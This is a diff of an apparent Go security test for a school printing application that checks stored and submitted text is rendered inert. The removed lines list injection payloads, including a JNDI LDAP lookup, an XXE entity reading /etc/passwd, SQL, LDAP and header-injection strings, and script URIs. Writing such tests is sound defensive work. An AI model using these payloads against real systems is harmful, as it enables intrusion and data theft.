@@ -22,9 +22,9 @@ import (
 
 	"golang.org/x/net/html"
 
-	"inkwell/internal/db/dbtest"
 	"inkwell/internal/school"
 	"inkwell/internal/school/schooltest"
+	"inkwell/internal/texttest"
 	"inkwell/internal/web/webtest"
 )
 
@@ -164,14 +164,11 @@ var (
 	addressed = []string{"href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster", "ping"}
 )
 
-// marked is in every payload: as an element, as an attribute, in a script.
-const marked = "qz"
-
 // harmless fails for a page in which a text is anything but text.
 func (h *house) harmless(path string, a *httptest.ResponseRecorder) {
 	h.Helper()
 	for name, values := range a.Header() {
-		if strings.ContainsFunc(name+strings.Join(values, ""), unicode.IsControl) || strings.EqualFold(name, marked) {
+		if strings.ContainsFunc(name+strings.Join(values, ""), unicode.IsControl) || strings.EqualFold(name, texttest.Mark) {
 			h.Errorf("%s has the header %q %q", path, name, values)
 		}
 	}
@@ -184,7 +181,7 @@ func (h *house) harmless(path string, a *httptest.ResponseRecorder) {
 	}
 	for n := range root.Descendants() {
 		switch {
-		case n.Type == html.CommentNode && strings.Contains(n.Data, marked):
+		case n.Type == html.CommentNode && strings.Contains(n.Data, texttest.Mark):
 			h.Errorf("%s has the comment %q", path, n.Data)
 		case n.Type == html.ElementNode:
 			h.ownElement(path, n)
@@ -204,7 +201,7 @@ func (h *house) ownElement(path string, n *html.Node) {
 		h.Errorf("%s has a <%s> of somebody's: %v %q", path, n.Data, n.Attr, inside)
 	}
 	for _, a := range n.Attr {
-		bad := strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || strings.ContainsAny(a.Key, `"'<`+"`") || strings.Contains(a.Key, marked) || a.Key == "name" && a.Val == marked
+		bad := strings.HasPrefix(a.Key, "on") || a.Key == "style" || a.Key == "srcdoc" || strings.ContainsAny(a.Key, `"'<`+"`") || strings.Contains(a.Key, texttest.Mark) || a.Key == "name" && a.Val == texttest.Mark
 		if slices.Contains(addressed, a.Key) {
 			u, err := url.Parse(strings.TrimSpace(a.Val))
 			bad = bad || err != nil || u.Host != "" || u.Scheme != "" && u.Scheme != "mailto" && u.Scheme != "ipps" || strings.Contains(a.Val, "\\")
@@ -215,56 +212,12 @@ func (h *house) ownElement(path string, n *html.Node) {
 	}
 }
 
-// heldText is a column of texts that come from without: from a list of the school's, a computer, a printer, a
-// directory, single sign-on or a command; and the most that each may be long.
-type heldText struct {
-	table, column, key string
-	most               int
-}
-
-var heldTexts = []heldText{
-	{"person", "given_name", "person_id", 90}, {"person", "family_name", "person_id", 90}, {"class", "name", "class_id", 60}, {"class", "subject", "class_id", 90},
-	{"printer", "name", "printer_id", 60}, {"printer", "room", "printer_id", 60}, {"queue", "name", "queue_id", 60}, {"station", "name", "station_id", 60},
-	{"job", "title", "job_id", 200}, {"address", "device", "address_id", 50}, {"device_group", "name", "group_id", 50}, {"exam", "name", "exam_id", 90},
-	{"term", "name", "first_day", 40}, {"suspension", "reason", "suspension_id", 400}, {"shared_account", "name", "account_id", 60}, {"school", "name", "school_id", 80},
-	{"flag", "note", "flag_id", 400}, {"objection", "words", "objection_id", 400}, {"step", "reason", "step_id", 400}, {"exemption", "reason", "exemption_id", 400},
-	{"guest_authority", "reason", "authority_id", 150}, {"roster_run", "origin", "run_id", 400}, {"session", "browser", "session_id", 60}, {"restriction", "name", "rule", 50},
-}
-
-// hold puts a payload of its own into every row of those.
-func (h *house) hold(all []string) {
-	h.Helper()
-	all = slices.DeleteFunc(slices.Clone(all), func(s string) bool {
-		return strings.ContainsRune(s, 0) || len(s) > 2000 || strings.ToValidUTF8(s, "") != s
-	}) // the database takes none of these
-	for i, p := range heldTexts {
-		if dbtest.Value[bool](h.T, h.db, "SELECT count(*) = 2 FROM information_schema.columns WHERE table_name = $1 AND column_name IN ($2, $3)", p.table, p.column, p.key) {
-			dbtest.Exec(h.T, h.db, fmt.Sprintf(`UPDATE %[1]s SET %[2]s = left(($1::text[])[1 + (abs(hashtext(%[3]s::text)) + $2) %% array_length($1::text[], 1)], %[4]d) || ' ' || %[3]s::text WHERE %[2]s IS NOT NULL`,
-				p.table, p.column, p.key, p.most), all, 50*i)
-		} else {
-			h.Errorf("%s has no column %s or %s", p.table, p.column, p.key)
-		}
-	}
-}
-
-// injections are payloads of every kind, at least 500; each has the mark.
-func injections() (all []string) {
-	for _, p := range payloads() {
-		all = append(all, strings.NewReplacer("alert(1)", "qz(1)", "name=x", "name=qz", "//evil.example", "//qz.example").Replace(p))
-	}
-	long := strings.Repeat("<qz qz=qz>", 1400)
-	return append(all, long, "\x00<qz>", "<qz\x00x>", "<qz qz=1>", "</form><qz>", "<qz-el onqz=1>", "＝qz()", "＋qz", "－qz", "＠qz", "\rqz=1", "\n=qz", "\u200b=qz", "\ufeff=qz()", "\u2066qz\u2069", "\u061cqz",
-		"\x1b]0;qz\x07", "\x1b[31mqz", "\u009b31mqz", "\x08\x08qz", `{"qz":1}`, `"},{"qz":"`, "qz\ntime=2026 level=ERROR msg=qz", "qz\n{\"level\":\"ERROR\",\"msg\":\"qz\"}", "qz\u2028qz\u2029", "qz\u0085level=ERROR",
-		"vbscript:qz", "data:text/html,<qz>", "JaVaScRiPt:qz()", " \tjavascript:qz()", "//qz.example", `\\qz.example\x`, "https://qz.example", "qz\r\nBcc: qz@qz.example", "qz\r\nqz: 1", "\xff\xfe<qz>", "qz' AND 1=CAST((SELECT 1) AS int)--",
-		"${jndi:ldap://qz.example}", "<%= qz %>", "#{qz}", "[[qz]]", "{{qz|safe}}", "*)(uid=qz", "qz)(|(cn=*", "&qz;", "&#60;qz&#62;", "<!DOCTYPE qz [<!ENTITY qz SYSTEM 'file:///etc/passwd'>]>", "%3Cqz%3E", "\\u003cqz\\u003e")
-}
-
 // TestNoTextIsAnythingElse writes payloads into every field of every form of every page, as the pages themselves
 // have them, and into what comes from without; then it reads every page, table and line of the log: none of them
 // is made of anything that we did not make. INKWELL_PROVE has all payloads in every field.
 func TestNoTextIsAnythingElse(t *testing.T) {
 	t.Parallel()
-	all := injections()
+	all := texttest.Harmful()
 	if len(all) < 500 {
 		t.Fatalf("only %d payloads", len(all))
 	}
@@ -280,11 +233,11 @@ func TestNoTextIsAnythingElse(t *testing.T) {
 		if rounds == 1 {
 			some = append(some, "\x00<qz>", "\xff\xfe<qz>") // what no database keeps, in every field each time
 		}
-		t.Run(fmt.Sprint(round), func(t *testing.T) { injected(t, some, all) })
+		t.Run(fmt.Sprint(round), func(t *testing.T) { injected(t, some) })
 	}
 }
 
-func injected(t *testing.T, some, all []string) {
+func injected(t *testing.T, some []string) {
 	h := newHouse(t)
 	at := h.morning()
 	h.enter("it")
@@ -313,7 +266,8 @@ func injected(t *testing.T, some, all []string) {
 	if len(forms) < 50 || fields < 40 {
 		t.Errorf("only %d fields of %d forms", fields, len(forms))
 	}
-	h.hold(append(all, some...))
+	h.brought()
+	h.hold()
 	shown := h.readAll(pages)
 	t.Logf("%d fields of %d forms, %d pages; %d show any of it", fields, len(forms), len(pages), shown)
 	if shown < len(pages)/3 {
@@ -337,7 +291,7 @@ func (h *house) readAll(pages []viewed) (shown int) {
 		if a.Code >= 500 {
 			h.Errorf("%s: %d", page.path, a.Code)
 		}
-		if strings.Contains(a.Body.String(), marked) {
+		if strings.Contains(a.Body.String(), texttest.Mark) {
 			shown++
 		}
 		h.harmless(page.path, a)
@@ -382,7 +336,7 @@ func (h *house) noBookFormula(path string, book []byte) {
 				h.Errorf("%s: %s: %v", path, f.Name, err)
 				break
 			}
-			if e, is := token.(xml.StartElement); is && (e.Name.Local == "f" || e.Name.Local == marked) {
+			if e, is := token.(xml.StartElement); is && (e.Name.Local == "f" || e.Name.Local == texttest.Mark) {
 				h.Errorf("%s: %s has the element %s", path, f.Name, e.Name.Local)
 			}
 		}
